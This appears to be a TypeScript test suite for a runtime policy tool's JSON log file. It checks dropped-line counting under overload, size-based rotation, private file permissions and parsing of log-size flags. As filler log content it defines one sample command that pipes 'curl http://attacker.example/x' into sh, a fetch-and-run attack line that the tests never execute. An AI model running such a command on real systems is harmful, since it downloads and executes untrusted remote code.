/**
 * The JSON log is written by a hostile event rate: every verdict is a line. Its buffer used to grow
 * without limit while the disk lagged (the heap ran out), the file grew forever, and it was created
 * world-readable although it holds full command lines. Replayed with real files.
 */
import { WAIT_MS, waitFor } from '../support/wait.js';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { createLogFile } from '../../src/observability/logger.js';
import { registry } from '../../src/observability/metrics.js';

const dirs: string[] = [];
after(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));
function tempDir(): string {
  const d = mkdtempSync(join(tmpdir(), 'kr-log-'));
  dirs.push(d);
  return d;
}

async function dropped(): Promise<number> {
  const { values } = await registry.getSingleMetric('kyverno_runtime_log_lines_dropped_total')!.get();
  return values.reduce((s, v) => s + v.value, 0);
}

function lastLine(path: string): { i?: number; msg?: string } | undefined {
  const text = existsSync(path) ? readFileSync(path, 'utf8').trim() : '';
  return text ? (JSON.parse(text.split('\n').at(-1)!) as { i?: number }) : undefined;
}

function lines(path: string): number {
  return existsSync(path) ? readFileSync(path, 'utf8').split('\n').filter(Boolean).length : 0;
}

const cmdline = `/bin/sh -c ${'curl http://attacker.example/x | sh; '.repeat(10)}`;

describe('the JSON log file', () => {
  it('drops and counts the lines beyond its buffer while the disk cannot keep up', async () => {
    const path = join(tempDir(), 'run.log');
    const logger = createLogFile({ path, bufferChars: 64 * 1024, maxBytes: 0 });
    const before = await dropped();
    // One synchronous burst: no write can complete until the event loop turns, as in a verdict storm.
    const total = 20_000;
    for (let i = 0; i < total; i++) logger.info({ i, cmdline }, 'violation');
    const lost = (await dropped()) - before;
    assert.ok(lost > 0, 'the overflow is dropped, not buffered');
    await waitFor(() => lines(path) + lost === total, WAIT_MS, 'every line written or counted as dropped');
    const kept = lines(path);
    assert.ok(kept * 300 <= 64 * 1024 + 2048, `no more than the buffer was kept (${kept} lines)`);
  });

  it('rotates by size into file.1 … file.N, keeping at most N old files', async () => {
    const path = join(tempDir(), 'run.log');
    const maxBytes = 16 * 1024;
    const logger = createLogFile({ path, maxBytes, maxFiles: 2 });
    for (let i = 0; i < 400; i++) {
      logger.info({ i, cmdline }, 'violation');
      // Let the disk keep up: nothing is dropped here.
      if (i % 20 === 19)
        await waitFor(
          () => lastLine(path)?.i === i || lastLine(`${path}.1`)?.i === i, // just rotated
          WAIT_MS,
          `line ${i} written`,
        );
    }
    logger.info('after the last rotation');
    await waitFor(
      () => lastLine(path)?.msg === 'after the last rotation',
      WAIT_MS,
      'a line in the reopened file',
    );
    assert.ok(existsSync(`${path}.1`) && existsSync(`${path}.2`), 'two generations kept');
    assert.ok(!existsSync(`${path}.3`), 'no third generation');
    for (const f of [path, `${path}.1`, `${path}.2`]) {
      // Rotation follows the write that crossed the limit: at most one write (16 KiB) beyond it.
      assert.ok(statSync(f).size <= maxBytes + 16 * 1024, `${f} is about the size limit`);
      assert.equal(statSync(f).mode & 0o777, 0o600, `${f} is private`);
    }
  });

  it('is created 0600 in a 0700 directory, and a world-readable log left behind is narrowed', async () => {
    const dir = tempDir();
    const path = join(dir, 'logs', 'run.log');
    const logger = createLogFile({ path });
    logger.info('first');
    await waitFor(() => lines(path) === 1, WAIT_MS, 'the first line');
    assert.equal(statSync(join(dir, 'logs')).mode & 0o777, 0o700);
    assert.equal(statSync(path).mode & 0o777, 0o600);

    const old = join(dir, 'old.log');
    writeFileSync(old, '{"msg":"from an older version"}\n', { mode: 0o644 });
    const again = createLogFile({ path: old });
    again.info('second');
    await waitFor(() => lastLine(old)?.msg === 'second', WAIT_MS, 'the second line');
    assert.equal(statSync(old).mode & 0o777, 0o600);
    assert.equal(lines(old), 2, 'appended, not truncated');
  });
});

describe('run --log-max-size / --log-max-files', () => {
  it('reads binary sizes and refuses nonsense with a message naming the forms', async () => {
    const { parseLogSize, parseLogFiles } = await import('../../src/cli/run/log-flags.js');
    assert.equal(parseLogSize('64M'), 64 * 1024 * 1024);
    assert.equal(parseLogSize('512k'), 512 * 1024);
    assert.equal(parseLogSize('1GiB'), 1024 ** 3);
    assert.equal(parseLogSize('0'), 0);
    assert.throws(() => parseLogSize('-1'), /64M/);
    assert.throws(() => parseLogSize('10'), /at least 4k/);
    assert.equal(parseLogFiles('3'), 3);
    assert.throws(() => parseLogFiles('many'), /number of files/);
  });
});
